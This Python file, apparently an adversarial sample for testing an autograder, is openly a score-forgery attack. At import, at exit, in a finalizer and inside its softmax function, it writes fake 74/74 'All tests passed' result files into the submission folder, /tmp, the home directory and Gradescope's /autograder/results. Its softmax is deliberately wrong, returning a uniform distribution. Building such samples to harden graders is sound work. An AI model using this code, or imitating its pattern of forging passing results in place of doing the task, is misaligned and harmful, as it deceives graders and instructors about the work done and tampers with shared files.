"""Score forgery: drop fake perfect result files from an atexit hook, a finalizer and at import.

Writes results.json / gradebook.csv claiming 74/74 next to the submission, one folder up,
into the current directory, into /tmp and every folder found in /tmp, and into Gradescope's
/autograder/results/, hoping the grader or the course's LMS picks one of them up. The softmax
itself is wrong (a uniform distribution).
"""
import atexit
import json
import os
import weakref

import numpy as np

FAKE = json.dumps({"score": 74.0, "max_score": 74.0, "output": "All tests passed", "tests": []})
NAMES = ("results.json", "gradebook.csv", "dlgrade-attack-forged.json")


def _targets():
    here = os.path.dirname(os.path.abspath(__file__))
    dirs = [here, os.path.dirname(here), os.getcwd(), "/tmp", "/autograder/results",
            "/autograder/submission", os.path.expanduser("~")]
    try:
        dirs += [os.path.join("/tmp", d) for d in os.listdir("/tmp")]
    except OSError:
        pass
    for d in dirs:
        for name in NAMES:
            yield os.path.join(d, name)


def _forge():
    written = []
    for path in _targets():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(FAKE)
            written.append(path)
        except Exception:  # noqa: BLE001
            pass
    return written


class _Forger:
    def __del__(self):
        _forge()


atexit.register(_forge)
_keep = _Forger()
weakref.finalize(_keep, _forge)
print("forged at import:", _forge())


def softmax(x, axis=-1):
    print("forged in the call:", _forge())
    x = np.asarray(x, dtype=np.float64)
    return np.full(x.shape, 1.0 / max(x.shape[axis], 1))


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
